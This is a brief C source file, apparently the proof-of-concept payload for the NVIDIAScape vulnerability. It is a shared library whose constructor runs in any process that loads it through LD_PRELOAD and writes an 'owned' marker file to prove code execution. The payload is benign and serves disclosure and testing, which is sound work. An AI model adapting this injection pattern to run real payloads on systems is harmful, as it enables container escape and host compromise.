/* poc.so: the NVIDIAScape payload. Its constructor runs in whatever process loads it
 * (LD_PRELOAD) and leaves MARKER behind, proving that the process ran attacker code. */
#include <fcntl.h>
#include <unistd.h>

__attribute__((constructor)) static void owned(void)
{
    int fd = open(MARKER, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (fd >= 0) {
        (void)!write(fd, "owned\n", 6);
        close(fd);
    }
}
